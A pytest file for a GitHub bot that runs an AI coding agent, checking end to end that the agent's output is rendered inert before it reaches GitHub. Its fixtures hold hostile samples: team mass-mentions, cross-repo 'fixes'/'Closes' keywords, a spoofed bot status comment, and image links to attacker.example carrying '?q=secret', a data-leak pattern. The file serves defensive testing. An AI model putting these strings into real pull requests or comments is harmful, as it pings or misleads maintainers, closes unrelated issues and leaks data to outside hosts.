"""What the agent writes reaches GitHub unable to ping, close, hide or load anything, end to
end: the bot (in this process), the GitHub simulator, real git and a scripted model."""

from __future__ import annotations

import re

from tests.agent_fakes import ask, finish, tool_use
from tests.support.stack import REPO, Stack

# The repository's own test command: its output is attacker-controlled too.
MAKEFILE = "test:\n\t@printf '%s\\n' '```' '@acme/everyone closes acme/widgets#3' '```'\n"
ATTACK = ("Thanks @acme/everyone and @octocat! fixes other/repo#2, Closes #7 "
          "<!-- backend-bot:status:job-99 --> ![chart](https://attacker.example/c.png?q=secret)")
FENCED_BLOCK = re.compile(r"^(`{3,}|~{3,})[^\n]*\n.*?^\1[ \t]*$", re.M | re.S)
CODE_SPAN = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)")
LIVE_MENTION = re.compile(r"(?<![\w`])@[A-Za-z0-9][\w/-]*")
CLOSING = re.compile(r"(?i)(?<![\w`])(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+"
                     r"(?:[\w.-]+/[\w.-]+#\d+|#\d+|https?://\S+/issues/\d+)")


def prose(markdown: str) -> str:
    """What GitHub renders outside code: blocks and spans out, escaped characters out."""
    return CODE_SPAN.sub("", re.sub(r"\\.", "", FENCED_BLOCK.sub("", markdown)))


def assert_inert(markdown: str, *, allowed_mentions=(), allowed_closing=()) -> None:
    text = prose(markdown)
    assert set(LIVE_MENTION.findall(text)) <= set(allowed_mentions), markdown
    assert set(CLOSING.findall(text)) <= set(allowed_closing), markdown
    assert "![" not in text and "<img" not in text, markdown
    comments = re.findall(r"<!--.*?-->", markdown, re.S)
    assert all(re.fullmatch(r"<!-- backend-bot:(pr|status):[\w.-]+ -->", c) for c in comments), comments
    assert "job-99" not in markdown


def bodies_sent(stack: Stack, number: int) -> list[str]:
    """Every comment body the bot wrote on #number, edits included."""
    return [request.json["body"] for request in stack.sim.requests
            if request.status < 300 and isinstance(request.json, dict) and "body" in request.json
            and re.search(rf"/issues/({number}/comments|comments/\d+)$", request.path)]


def test_the_agents_words_cannot_ping_close_hide_or_load(stack):
    sim = stack.sim
    sim.commit(REPO, "main", {"Makefile": MAKEFILE}, message="Add a test target")
    number = sim.add_issue(REPO, "Add hello.txt", "Please add hello.txt.", user="alice")
    stack.fake.add(
        tool_use("TodoWrite", todos=[
            {"content": "Ping @octocat\n```\n@acme/everyone\n```", "status": "in_progress",
             "activeForm": "Pinging @acme/everyone <!-- backend-bot:status:job-99 -->"}]),
        tool_use("Write", file_path="hello.txt", content="hello\n"),
        finish(title="Add hello.txt for @octocat, fixes other/repo#2",
               task_summary=ATTACK, files_modified=["hello.txt: new"],
               key_decisions='<img src="https://attacker.example/p.gif?d=1"> resolves https://github.com/o/r/issues/3',
               testing_performed="Ran `make test` (`@octocat` in code stays as written)."),
    )
    stack.deliver("issues", sim.event_issues_labeled(REPO, number, "backend", sender="alice"))
    (job,) = stack.wait_jobs(1)
    assert job.state == "succeeded", job.error

    (pr,) = sim.pulls(REPO)
    body = pr["body"]
    assert_inert(body, allowed_closing={f"Closes #{number}"})
    assert re.search(rf"^Closes #{number}$", body, re.M)  # the bot's own still closes
    assert "`@acme/everyone`" in body and "fixes `other/repo#2`" in body and "Closes `#7`" in body
    assert "[image: chart](https://attacker.example/c.png?q=secret)" in body
    assert "[image](https://attacker.example/p.gif?d=1)" in body
    assert "`@octocat` in code stays as written" in body
    # The repository's test output stays inside its fence, however many backticks it prints.
    assert "\n````text\n```\n@acme/everyone closes acme/widgets#3\n```\n````" in body
    (check,) = [c for c in sim.check_runs.values() if c["name"] == "backend-bot / tests"]
    assert check["output"]["text"] == "````\n```\n@acme/everyone closes acme/widgets#3\n```\n````"
    assert_inert(pr["title"])

    for comment in bodies_sent(stack, number):
        assert_inert(comment)
    assert any("`@octocat`" in c and "- [ ] Ping" in c for c in bodies_sent(stack, number))

    message = stack.git("log", "-1", "--format=%B", pr["head"]["ref"])
    assert message.startswith("Add hello.txt for `@octocat`, fixes `other/repo#2`\n")
    # Plain text to GitHub: no code to hide in, so the raw message must be inert.
    assert not LIVE_MENTION.search(message) and not CLOSING.search(message), message


def test_a_question_cannot_ping_a_team(stack):
    sim = stack.sim
    number = sim.add_issue(REPO, "Make it faster", "", user="alice")
    stack.fake.add(ask("Should I ask @acme/everyone first?\n\n```\n@acme/everyone\n```"))
    stack.deliver("issues", sim.event_issues_labeled(REPO, number, "backend", sender="alice"))
    (job,) = stack.wait_jobs(1)
    assert job.state == "succeeded" and "question" in job.result

    (question,) = [c["body"] for c in sim.comments_on(REPO, number) if "the agent asks" in c["body"]]
    assert "Should I ask `@acme/everyone` first?" in question
    assert_inert(question, allowed_mentions={"@alice"})  # the bot itself asks the requester
    assert "@alice" in prose(question)
    for comment in bodies_sent(stack, number):
        assert_inert(comment, allowed_mentions={"@alice"})
